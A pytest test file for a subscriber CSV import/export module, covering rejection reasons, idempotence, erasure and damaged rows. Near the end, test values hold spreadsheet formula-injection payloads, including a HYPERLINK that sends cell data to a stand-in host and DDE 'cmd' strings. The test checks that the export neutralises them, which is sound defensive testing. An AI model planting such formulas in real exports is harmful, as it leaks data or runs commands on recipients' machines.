"""CSV imports: every rejected row reported with its line and reason, valid rows imported,
idempotent, and nobody who left is ever added back."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, update

from actwatch.config import Config
from actwatch.db.schema import subscribers
from actwatch.subscribers import (
    ImportFileError,
    erase,
    export_csv,
    find_subscriber,
    import_file,
    list_subscribers,
    person_data,
)
from actwatch.subscribers.store import unsubscribe
from tests.conftest import REPO

NOW = datetime(2017, 12, 1, 9, 0, tzinfo=UTC)


def write(tmp_path: Path, data: bytes | str, name: str = "people.csv") -> Path:
    path = tmp_path / name
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def test_the_example_file_with_problems(engine: Engine, config: Config) -> None:
    report = import_file(engine, config, REPO / "subscribers" / "problems-example.csv")
    assert report.added == 2
    reasons = {r.line: r.reason for r in report.rejected}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8, 11, 12]
    assert reasons[3] == "duplicate of line 2 (imported once)"
    assert "exactly one @" in reasons[4]
    assert "after the @-sign is not valid" in reasons[5]
    assert "unknown strand 'adoption-reform'" in reasons[6]
    assert reasons[7] == "no email address"
    assert "4 columns" in reasons[12]
    ruth = find_subscriber(engine, "RUTH.ADEYEMI@southmoor.example.gov.uk")
    assert ruth is not None and ruth.email == "ruth.adeyemi@southmoor.example.gov.uk"
    assert ruth.strands == ("care-leavers",) and ruth.status == "confirmed"
    # Strands by name as well as by slug.
    team = find_subscriber(engine, "team@southmoor.example.gov.uk")
    assert team is not None and team.strands == ("care-leavers", "corporate-parenting")
    assert team.name == "Children's services; ops team"


def test_sector_contacts_import_with_consent_evidence(engine: Engine, config: Config) -> None:
    path = REPO / "subscribers" / "sector-contacts.csv"
    report = import_file(engine, config, path, now=NOW)
    assert (report.added, report.rejected) == (18, [])
    everyone = list_subscribers(engine)
    assert {s.consent_source for s in everyone} == {
        "import:sector-contacts.csv at 2017-12-01T09:00:00Z"
    }
    assert all(s.confirmed_at == NOW for s in everyone)
    assert len({s.choice for s in everyone}) >= 5  # a realistic spread of choices
    again = import_file(engine, config, path)
    assert (again.added, again.unchanged, again.rejected) == (0, 18, [])
    assert len(list_subscribers(engine)) == 18


def test_bom_crlf_quotes_and_bad_bytes(engine: Engine, config: Config, tmp_path: Path) -> None:
    data = (
        b"\xef\xbb\xbfEmail , NAME,strands\r\n"
        b'a@example.org,"Smith, Ann",care-leavers\r\n'
        b"\r\n"
        b'b@example.org,"Two\r\nlines",\r\n'
        b"c@example.org,Caf\xe9 Latin-1,\r\n"
        b"d@example.org,,  Care-Leavers ; safeguarding-partnerships  \r\n"
    )
    report = import_file(engine, config, write(tmp_path, data))
    assert report.added == 3
    (bad,) = report.rejected
    assert bad.line == 6 and "not UTF-8" in bad.reason
    a = find_subscriber(engine, "a@example.org")
    b = find_subscriber(engine, "b@example.org")
    d = find_subscriber(engine, "d@example.org")
    assert a is not None and a.name == "Smith, Ann"
    assert b is not None and b.name == "Two lines" and b.all_strands
    assert d is not None and d.strands == ("care-leavers", "safeguarding-partnerships")


def test_whole_file_problems(engine: Engine, config: Config, tmp_path: Path) -> None:
    with pytest.raises(ImportFileError, match="email, name, strands"):
        import_file(engine, config, write(tmp_path, "address,name\nx@example.org,X\n"))
    with pytest.raises(ImportFileError, match="cannot read"):
        import_file(engine, config, tmp_path / "missing.csv")
    empty = import_file(engine, config, write(tmp_path, "email\n"))
    assert (empty.rows, empty.added) == (0, 0)


def test_people_who_left_are_never_added_back(
    engine: Engine, config: Config, tmp_path: Path
) -> None:
    first = write(tmp_path, "email\nleft@example.org\nbounced@example.org\ngone@example.org\n")
    import_file(engine, config, first)
    left = find_subscriber(engine, "left@example.org")
    gone = find_subscriber(engine, "gone@example.org")
    assert left is not None and gone is not None
    unsubscribe(engine, left.id)
    with engine.begin() as connection:
        connection.execute(
            update(subscribers)
            .where(subscribers.c.email == "bounced@example.org")
            .values(status="bounced", bounced_at=NOW)
        )
    erase(engine, gone.id)
    report = import_file(
        engine,
        config,
        write(
            tmp_path,
            "email\nLEFT@example.org\nbounced@example.org\ngone@example.org\n",
            "again.csv",
        ),
    )
    assert report.added == 0
    reasons = [r.reason for r in report.rejected]
    assert "unsubscribed" in reasons[0] and "bounced" in reasons[1] and "erased" in reasons[2]
    assert find_subscriber(engine, "left@example.org").status == "unsubscribed"  # type: ignore[union-attr]


def test_export_reimports_and_erasure_leaves_nothing_readable(
    engine: Engine, config: Config, tmp_path: Path
) -> None:
    import_file(engine, config, REPO / "subscribers" / "sector-contacts.csv")
    exported = export_csv(engine)
    assert exported.count("\r\n") == 19
    again = import_file(engine, config, write(tmp_path, exported, "export.csv"))
    assert again.unchanged == 18 and again.rejected == []

    person = find_subscriber(engine, "amara.okafor@northshire-council.example.gov.uk")
    assert person is not None
    data = person_data(engine, person)
    assert data["name"] == "Amara Okafor" and data["strands"] == [
        "care-leavers",
        "corporate-parenting",
    ]
    erase(engine, person.id)
    erased = find_subscriber(engine, "amara.okafor@northshire-council.example.gov.uk")
    assert erased is not None and erased.status == "erased"
    assert (
        erased.name is None and erased.email.startswith("erased:") and "amara" not in erased.email
    )
    assert "amara" not in export_csv(engine, status=None)


def test_cli_import_reports_rejections(
    tmp_path: Path, write_config: Callable[..., Path], database_url: str
) -> None:
    from actwatch.cli import main

    config_path = write_config(database={"url": database_url})
    result = CliRunner().invoke(
        main,
        [
            "--config",
            str(config_path),
            "subscribers",
            "import",
            str(REPO / "subscribers" / "problems-example.csv"),
        ],
    )
    assert result.exit_code == 1, result.output  # rows were rejected: a script must notice
    assert "2 added" in result.output and "8 rejected" in result.output
    assert (
        "line 6: g.shaw@southmoor.example.gov.uk: unknown strand 'adoption-reform'" in result.output
    )
    listed = CliRunner().invoke(
        main, ["--config", str(config_path), "subscribers", "list", "--json"]
    )
    assert listed.output.count("\n") == 2


DAMAGED = (
    "email,name,strands\n"
    "first@example.org,First,care-leavers\n"  # line 2
    "huge@example.org," + "x" * 200_000 + ",\n"  # line 3: one field over 128 KB
    '"open@example.org,Unclosed quote,care-leavers\n'  # line 4: the quote is never closed
    "after@example.org,After the open quote,\n"  # line 5: must not be swallowed
    'junk@example.org,"Name"junk,\n'  # line 6: text after a closing quote
    'multi@example.org,"Two\nlines",\n'  # lines 7-8: a quoted name with a line break: fine
    'strand@example.org,Strand,"care-leavers\nsafeguarding-partnerships"\n'  # 9-10: not fine
    "last@example.org,Last,\n"  # line 11
)


def test_damaged_rows_are_rejected_on_their_own_lines(
    engine: Engine, config: Config, tmp_path: Path
) -> None:
    report = import_file(engine, config, write(tmp_path, DAMAGED))
    reasons = {r.line: r.reason for r in report.rejected}
    assert sorted(reasons) == [3, 4, 6, 9]
    assert "over 4,000 characters" in reasons[3]
    assert "quote" in reasons[4] and "not closed" in reasons[4]
    assert "malformed quoting" in reasons[6]
    assert "'strands' field runs over 2 lines" in reasons[9]
    imported = {s.email for s in list_subscribers(engine)}
    assert imported == {
        "first@example.org",
        "after@example.org",
        "multi@example.org",
        "last@example.org",
    }
    multi = find_subscriber(engine, "multi@example.org")
    assert multi is not None and multi.name == "Two lines"


def test_a_field_too_long_for_any_name_is_rejected(
    engine: Engine, config: Config, tmp_path: Path
) -> None:
    report = import_file(
        engine, config, write(tmp_path, "email,name\nlong@example.org," + "n" * 1500 + "\n")
    )
    (rejected,) = report.rejected
    assert rejected.line == 2 and "'name' field is over 1,000 characters" in rejected.reason


def test_cli_import_exit_status_and_json_report(
    tmp_path: Path, write_config: Callable[..., Path], database_url: str
) -> None:
    from actwatch.cli import main

    config_path = write_config(database={"url": database_url})
    damaged = write(tmp_path, DAMAGED, "damaged.csv")
    result = CliRunner().invoke(
        main, ["--config", str(config_path), "subscribers", "import", "--json", str(damaged)]
    )
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    report = json.loads(result.stdout)
    (file_report,) = report["files"]
    assert report["ok"] is False
    assert [r["line"] for r in file_report["rejected"]] == [3, 4, 6, 9]
    assert file_report["added"] == 4
    clean = write(tmp_path, "email\nclean@example.org\n", "clean.csv")
    again = CliRunner().invoke(
        main, ["--config", str(config_path), "subscribers", "import", str(clean)]
    )
    assert again.exit_code == 0, again.output


HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "Plain Name",
]


def test_export_neutralises_formulas_and_reimports(
    engine: Engine, config: Config, tmp_path: Path
) -> None:
    from actwatch.subscribers import sign_up

    for index, name in enumerate(HOSTILE_NAMES):
        sign_up(
            engine,
            config,
            f"reader{index}@example.org",
            name=name,
            strands=None,
            source="=cmd|' /C calc'!A0",  # any text a person can influence
            now=NOW,
        )
    sign_up(engine, config, "-dash@example.org", name=None, strands=None, source="web", now=NOW)
    exported = export_csv(engine, status=None)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert len(cells) == 6 * 7
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The export re-imports to the same people and names: the import takes the ' off again.
    with engine.begin() as connection:
        connection.execute(update(subscribers).values(status="pending"))
    report = import_file(engine, config, write(tmp_path, exported, "export.csv"))
    assert (report.confirmed, report.rejected) == (6, [])
    names = {s.email: s.name for s in list_subscribers(engine)}
    assert names["reader0@example.org"] == HOSTILE_NAMES[0]
    assert names["reader3@example.org"] == "@SUM(1+1)"
    assert "-dash@example.org" in names


def test_erasure_forgets_the_mail_queued_for_them(
    engine: Engine, config: Config, tmp_path: Path
) -> None:
    from sqlalchemy import func, select

    from actwatch.db.schema import subscriber_mail
    from actwatch.subscribers import outbox

    import_file(engine, config, write(tmp_path, "email\nsoon.gone@example.org\n"))
    person = find_subscriber(engine, "soon.gone@example.org")
    assert person is not None
    assert outbox.queue(engine, person.id, outbox.LINKS, now=NOW)
    held = person_data(engine, person)["emails_about_the_subscription"]
    assert [(m["kind"], m["state"]) for m in held] == [("links", "queued")]
    erase(engine, person.id, now=NOW)
    with engine.connect() as connection:
        left = connection.execute(select(func.count()).select_from(subscriber_mail)).scalar_one()
    assert left == 0
